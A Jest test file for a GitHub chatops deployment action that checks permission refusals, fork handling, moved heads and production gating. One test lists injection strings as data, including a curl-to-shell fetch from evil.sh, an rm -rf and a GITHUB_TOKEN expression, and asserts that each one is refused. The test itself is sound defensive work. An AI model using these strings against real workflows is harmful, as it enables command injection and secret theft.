/**
 * Runner-protocol tests: the built dist/chatops/index.js, run as the runner runs it, with real issue_comment
 * payloads, against the GitHub API stand-in. Every API call is asserted, and every refusal shows that nothing
 * changed: no deployment, no status, no lock, no state.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile, mkdir, readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { loadConfig } from '../../src/core/config.js';
import { deploy, status } from '../../src/deploy/engine.js';
import { pullRequestCommentEvent, webhookEvent } from '../support/events.js';
import { GitHubStandIn } from '../support/github-stand-in.js';
import { runAction, type RunActionResult } from '../support/run-action.js';

const HEAD = 'c0ffee'.padEnd(40, '0');
const MOVED = 'bad0'.padEnd(40, '1');
const PR = 7;

const CONFIG = `version: 1
models:
  iris:
    path: models/iris.onnx
environments:
  staging:
    provider: { type: local, root: .modelship/repository/staging }
    strategy: { type: direct }
  production:
    requires: staging
    provider: { type: local, root: .modelship/repository/production }
    strategy: { type: blue-green }
chatops:
  environments:
    production:
      permissions: [admin]
      requireMerged: true
      requiredChecks: [test]
`;

let gh: GitHubStandIn;
let workspace: string;

beforeAll(async () => {
  gh = await GitHubStandIn.start();
});
afterAll(async () => {
  await gh.close();
});
afterEach(async () => {
  gh.verifyAndReset();
  if (workspace) await rm(workspace, { recursive: true, force: true });
});

async function project(): Promise<string> {
  workspace = await mkdtemp(path.join(os.tmpdir(), 'ms-chatops-'));
  await mkdir(path.join(workspace, 'models'));
  await writeFile(path.join(workspace, 'models/iris.onnx'), 'not really onnx');
  await writeFile(path.join(workspace, 'modelship.yml'), CONFIG);
  return workspace;
}

function seed(options: { login?: string; level?: 'admin' | 'write' | 'read' | 'none'; fork?: boolean } = {}) {
  gh.world.setPermission(options.login ?? 'octocat', options.level ?? 'write');
  const pr = gh.world.addPullRequest(PR, { headSha: HEAD, baseRef: 'main', ...(options.fork ? { headRepoFullName: 'mallory/Hello-World' } : {}) });
  return pr;
}

async function run(event: ReturnType<typeof pullRequestCommentEvent>, inputs: Record<string, string> = {}): Promise<RunActionResult> {
  return runAction('chatops', {
    event,
    standIn: gh,
    cwd: workspace,
    inputs,
    env: { MODELSHIP_GITHUB_RETRY_BASE_MS: '1' },
  });
}

const comment = (body: string, extra: { login?: string; action?: 'created' | 'edited' } = {}) =>
  pullRequestCommentEvent({ body, pullNumber: PR, login: extra.login ?? 'octocat', action: extra.action });

/** Each call as `METHOD route`, in order. */
const calls = () => gh.calls().map((c) => `${c.method} ${c.route ?? c.path}`);
const reactions = () => gh.world.reactions.map((r) => r.content);
const replies = () => gh.world.comments.filter((c) => c.body.startsWith('<!-- modelship:chatops-'));

const PERMISSION = 'GET /repos/{owner}/{repo}/collaborators/{username}/permission';
const PULL = 'GET /repos/{owner}/{repo}/pulls/{pull_number}';
const REACT = 'POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions';
const LIST = 'GET /repos/{owner}/{repo}/issues/{issue_number}/comments';
const CREATE = 'POST /repos/{owner}/{repo}/issues/{issue_number}/comments';
const UPDATE = 'PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}';

function expectNothingChanged(r: RunActionResult): void {
  expect(gh.calls().filter((c) => /deployments|statuses|check-runs|git\/refs/.test(c.path) && c.method !== 'GET')).toEqual([]);
  expect(r.outputs.sha).toBe('');
  expect(existsSync(path.join(workspace, '.modelship'))).toBe(false);
}

async function liveIn(env: string): Promise<string | null> {
  const loaded = await loadConfig(path.join(workspace, 'modelship.yml'));
  return (await status(loaded, { environment: env })).environments[0].liveVersion;
}

/** A merged pull request whose `test` check passed: what production's rules ask for. */
function mergedAndGreen(): void {
  seed({ level: 'admin' });
  gh.world.addPullRequest(PR, { headSha: HEAD, overrides: { merged: true, state: 'closed' } });
  gh.on('GET /repos/{owner}/{repo}/commits/{ref}/check-runs', {
    body: { total_count: 1, check_runs: [gh.example('GET /repos/{owner}/{repo}/check-runs/{check_run_id}', { id: 1, name: 'test', status: 'completed', conclusion: 'success' })] },
  });
}

async function lockOf(env: string) {
  const loaded = await loadConfig(path.join(workspace, 'modelship.yml'));
  return (await status(loaded, { environment: env })).environments[0].lock;
}

describe('chatops action: commands that run', () => {
  it('/lock runs through the deploy engine: eyes, one reply updated in place, rocket', async () => {
    await project();
    seed();
    const event = comment('/lock staging model retraining');
    const r = await run(event);
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'done', 'reason-code': 'ok', command: 'lock', env: 'staging', sha: HEAD, actor: 'octocat', 'pull-request': String(PR) });
    expect(calls()).toEqual([REACT, LIST, CREATE, PERMISSION, PULL, PULL, LIST, UPDATE, LIST, UPDATE, REACT]);
    const id = event.payload.comment.id;
    expect(gh.calls(REACT).map((c) => (c.body as { content: string }).content)).toEqual(['eyes', 'rocket']);
    expect(gh.calls(REACT).every((c) => c.params.comment_id === String(id))).toBe(true);
    expect(replies()).toHaveLength(1);
    expect(replies()[0].body).toContain(`<!-- modelship:chatops-${id} -->`);
    expect(replies()[0].body).toMatch(/🚀 Done/);
    expect(replies()[0].body).toContain('https://github.com/');
    expect(await lockOf('staging')).toMatchObject({ owner: 'octocat', reason: 'model retraining' });
    expect(r.summary).toMatch(/Modelship chatops: done/);
  });

  it('/deploy is approved for the next job with the pinned SHA; nothing is deployed by the action', async () => {
    await project();
    seed();
    const r = await run(comment('/deploy iris@1.2.0 to staging --dry-run'));
    expect(r.outputs).toMatchObject({ decision: 'approved', command: 'deploy', model: 'iris', version: '1.2.0', env: 'staging', 'dry-run': 'true', sha: HEAD });
    expect(reactions()).toEqual(['eyes']);
    expect(replies()[0].body).toMatch(/Approved/);
    expect(gh.calls().filter((c) => c.path.includes('deployments'))).toEqual([]);
    expect(existsSync(path.join(workspace, '.modelship'))).toBe(false);
  });

  it('/promote runs through the deploy engine on a merged, green pull request', async () => {
    await project();
    await deploy(await loadConfig(path.join(workspace, 'modelship.yml')), { environment: 'staging', version: '1.0.0', actor: 'ci' });
    mergedAndGreen();
    const r = await run(comment('/promote iris to production'));
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'promote', model: 'iris', env: 'production', sha: HEAD });
    expect(calls()).toEqual([REACT, LIST, CREATE, PERMISSION, PULL, 'GET /repos/{owner}/{repo}/commits/{ref}/check-runs', PULL, LIST, UPDATE, LIST, UPDATE, REACT]);
    expect(await liveIn('production')).toBe('1.0.0');
    expect(replies()[0].body).toMatch(/required checks green: test[\s\S]*head still at c0ffee0/);
    expect(r.summary).toMatch(/\| Step \| Status \| Detail \|/);
  });

  it('--dry-run (or the dry-run input) authorises and plans, and changes nothing', async () => {
    await project();
    await deploy(await loadConfig(path.join(workspace, 'modelship.yml')), { environment: 'staging', version: '1.0.0', actor: 'ci' });
    mergedAndGreen();
    const r = await run(comment('/promote iris to production'), { 'dry-run': 'true' });
    expect(r.outputs).toMatchObject({ decision: 'done', 'dry-run': 'true' });
    expect(await liveIn('production')).toBeNull();
    expect(replies()[0].body).toMatch(/dry run/);
  });

  it('an engine refusal fails the step, says why and leaves production as it was', async () => {
    await project();
    mergedAndGreen();
    const r = await run(comment('/promote iris to production'));
    expect(r.exitCode).not.toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'failed', 'reason-code': 'execution_failed' });
    expect(r.outputs.reason).toMatch(/nothing is live in staging/);
    expect(reactions()).toEqual(['eyes', '-1']);
    expect(await liveIn('production')).toBeNull();
  });

  it('an ordinary comment makes no API call at all', async () => {
    await project();
    const r = await run(comment('Thanks, looks good'));
    expect(r.outputs.decision).toBe('ignored');
    expect(calls()).toEqual([]);
  });
});

describe('chatops action: refusals (each says why; nothing is deployed)', () => {
  it('a user without write permission', async () => {
    await project();
    seed({ login: 'stranger', level: 'read' });
    const r = await run(comment('/lock staging', { login: 'stranger' }));
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'permission_denied' });
    expect(r.outputs.reason).toMatch(/stranger has .read. permission/);
    expect(calls()).toEqual([REACT, LIST, CREATE, PERMISSION, LIST, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    expect(replies()[0].body).toMatch(/Refused[\s\S]*"read" permission/);
    expectNothingChanged(r);
  });

  it('a permission API that fails denies', async () => {
    await project();
    seed();
    gh.injectFault(PERMISSION, { kind: 'status', status: 502, times: 10 });
    const r = await run(comment('/lock staging'));
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'permission_unavailable' });
    expect(r.outputs.reason).toMatch(/cannot be verified is denied/);
    expect(calls().filter((c) => c === PULL)).toEqual([]);
    expect(reactions()).toEqual(['eyes', '-1']);
    expectNothingChanged(r);
  });

  it('a fork pull request', async () => {
    await project();
    seed({ fork: true });
    const r = await run(comment('/lock staging'));
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'fork' });
    expect(r.outputs.reason).toMatch(/mallory\/Hello-World/);
    expect(calls()).toEqual([REACT, LIST, CREATE, PERMISSION, PULL, LIST, UPDATE, REACT]);
    expectNothingChanged(r);
  });

  it('a comment on an issue (real payload, no pull_request)', async () => {
    await project();
    const event = webhookEvent('issue_comment', { action: 'created', overrides: { comment: { body: '/lock staging' } } });
    expect(event.payload.issue.pull_request).toBeUndefined();
    const r = await run(event);
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'not_pull_request' });
    expect(calls()).toEqual([LIST, CREATE, REACT]);
    expect(reactions()).toEqual(['-1']);
    expectNothingChanged(r);
  });

  it('an edited comment: refused without touching the API', async () => {
    await project();
    seed();
    const r = await run(comment('/lock staging', { action: 'edited' }));
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'not_created' });
    expect(r.outputs.reason).toMatch(/only new comments run commands/);
    expect(calls()).toEqual([]);
    expectNothingChanged(r);
  });

  it('shell metacharacters or ${{ }} in every argument', async () => {
    await project();
    seed();
    const bodies = [
      '/deploy ${{secrets.GITHUB_TOKEN}}@1.0.0 to staging',
      '/deploy iris@$(curl${IFS}evil.sh|sh) to staging',
      '/promote iris to staging;rm${IFS}-rf',
      '/rollback `id` to 1.0.0',
      '/rollback staging to 1.0.0&&id',
      '/lock staging ${{github.event.comment.body}}',
      '/unlock "staging"',
      '/status <staging>',
    ];
    for (const body of bodies) {
      gh.reset();
      seed();
      const r = await run(comment(body));
      expect({ body, decision: r.outputs.decision, code: r.outputs['reason-code'] }).toEqual({ body, decision: 'refused', code: 'parse_error' });
      for (const name of ['command', 'model', 'version', 'env', 'sha']) expect(r.outputs[name]).toBe('');
      expect(r.outputs.reason).not.toMatch(/\$\{\{|\$\(|`|;|&&|[<>"]/);
      expect(replies()[0].body).not.toMatch(/\$\{\{|\$\(/);
      // A malformed command gets one reply, written once the commenter's permission is known.
      expect(calls()).toEqual([REACT, PERMISSION, LIST, CREATE, REACT]);
      expectNothingChanged(r);
    }
  });

  it('a head that moved after the command was read', async () => {
    await project();
    seed();
    let reads = 0;
    gh.on(`GET /repos/{owner}/{repo}/pulls/${PR}`, () => {
      reads += 1;
      const pr = structuredClone(gh.world.pullRequests.get(PR)!) as { head: { sha: string } };
      if (reads > 1) pr.head.sha = MOVED;
      return { status: 200, body: pr };
    });
    const r = await run(comment('/lock staging'));
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'ref_changed' });
    expect(r.outputs.reason).toMatch(/moved from c0ffee0 to bad0111/);
    expect(calls()).toEqual([REACT, LIST, CREATE, PERMISSION, PULL, PULL, LIST, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    expectNothingChanged(r);
    expect(await lockOf('staging')).toBeNull();
  });

  it('production: admin only, merged only, required checks read from every page', async () => {
    await project();
    seed({ level: 'admin' });
    const notMerged = await run(comment('/promote iris to production'));
    expect(notMerged.outputs['reason-code']).toBe('not_merged');
    expectNothingChanged(notMerged);

    gh.reset();
    seed({ level: 'admin' });
    gh.world.addPullRequest(PR, { headSha: HEAD, overrides: { merged: true, state: 'closed' } });
    const runs = Array.from({ length: 130 }, (_, i) => gh.example<Record<string, unknown>>('GET /repos/{owner}/{repo}/check-runs/{check_run_id}', { id: i + 1, name: i === 120 ? 'test' : `lint-${i}`, status: 'completed', conclusion: i === 120 ? 'failure' : 'success', started_at: '2026-01-01T00:00:00Z' }));
    gh.on('GET /repos/{owner}/{repo}/commits/{ref}/check-runs', (request) => {
      const page = Number(request.query.page ?? 1);
      const per = Number(request.query.per_page ?? 30);
      const slice = runs.slice((page - 1) * per, page * per);
      const last = Math.ceil(runs.length / per);
      const link = page < last ? { link: `<${gh.url}${request.path}?per_page=${per}&page=${page + 1}>; rel="next"` } : undefined;
      return { status: 200, body: { total_count: runs.length, check_runs: slice }, headers: link };
    });
    const failing = await run(comment('/promote iris to production'));
    expect(failing.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'checks_failed' });
    expect(failing.outputs.reason).toMatch(/test \(failure\)/);
    expect(gh.calls('GET /repos/{owner}/{repo}/commits/{ref}/check-runs')).toHaveLength(2);
    expectNothingChanged(failing);
  });
});
